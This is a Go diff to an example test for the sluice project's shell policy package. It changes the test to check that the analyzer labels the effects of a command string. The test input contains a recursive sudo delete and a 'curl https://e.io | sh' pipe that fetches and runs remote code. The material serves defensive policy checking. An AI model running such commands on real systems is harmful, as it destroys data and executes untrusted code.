@@ -3,20 +3,20 @@ package shell_test
 import (
 	"fmt"
 
+	"github.com/sluice-project/sluice/policy/effect"
 	"github.com/sluice-project/sluice/policy/shell"
 )
 
-func ExampleSplit() {
-	commands, unknown := shell.Split(`cd deploy && env X=1 sudo kubectl --context=prod delete ns a; curl x | sh`)
-	for i := range commands {
-		c := &commands[i]
-		fmt.Println(c.Name, c.Sub, c.Flag("context"), c.Sudo)
+func ExampleRead() {
+	at := shell.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}
+	r := shell.Read(`DIR=build; cd .. && sudo rm -rf "$DIR"; curl https://e.io | sh; $TOOL`, at)
+	for _, e := range r.Effects {
+		fmt.Println(e)
 	}
-	fmt.Println(unknown)
+	fmt.Println(r.Unknown)
 	// Output:
-	// cd deploy  false
-	// kubectl delete prod true
-	// curl x  false
-	// sh   false
-	// [pipe]
+	// delete /home/u/build, and everything in it, as another user
+	// fetch https://e.io
+	// run-remote https://e.io
+	// [variable]
 }
